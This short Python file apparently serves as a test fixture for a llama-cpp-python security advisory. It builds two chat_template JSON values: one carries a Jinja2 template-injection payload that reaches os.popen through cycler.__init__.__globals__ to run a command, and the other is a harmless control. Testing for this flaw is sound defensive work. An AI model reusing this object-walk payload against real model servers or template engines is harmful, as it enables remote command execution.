"""https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829"""

from __future__ import annotations

import json


def fires() -> bytes:
    walk = "cycler.__init__.__globals__.os.popen('touch pwned')"
    return json.dumps({"chat_template": "{% for m in messages %}{{ " + walk + " }}{% endfor %}"}).encode()


def quiet() -> bytes:
    test = "'__init__' not in message.content"
    return json.dumps({"chat_template": "{% if " + test + " %}{{ message.content }}{% endif %}"}).encode()
